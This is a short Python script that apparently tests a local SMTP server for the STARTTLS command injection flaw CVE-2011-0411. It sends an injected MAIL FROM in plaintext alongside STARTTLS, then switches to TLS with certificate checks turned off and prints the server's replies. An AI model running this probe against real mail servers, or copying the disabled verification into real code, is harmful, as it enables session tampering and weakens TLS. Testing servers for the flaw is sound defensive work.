"""Writes a command behind STARTTLS in the same packet, in the clear (the
STARTTLS command injection of CVE-2011-0411), then speaks TLS and prints
the answers the server gave inside TLS, one a line."""

import socket
import ssl
import sys

port = int(sys.argv[1])
plain = socket.create_connection(("127.0.0.1", port), timeout=10)
reader = plain.makefile("rb")


def answer(stream):
    lines = []
    while True:
        line = stream.readline().decode()
        lines.append(line.strip())
        if len(line) < 4 or line[3] != "-":
            return lines[-1]


answer(reader)
plain.sendall(b"EHLO client.example\r\n")
answer(reader)
plain.sendall(b"STARTTLS\r\nMAIL FROM:<injected@example.jp>\r\n")
print(answer(reader))
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE
secure = context.wrap_socket(plain)
stream = secure.makefile("rb")
secure.sendall(b"EHLO client.example\r\n")
print(answer(stream))
secure.sendall(b"MAIL FROM:<taro@example.jp>\r\n")
print(answer(stream))
secure.sendall(b"QUIT\r\n")
print(answer(stream))
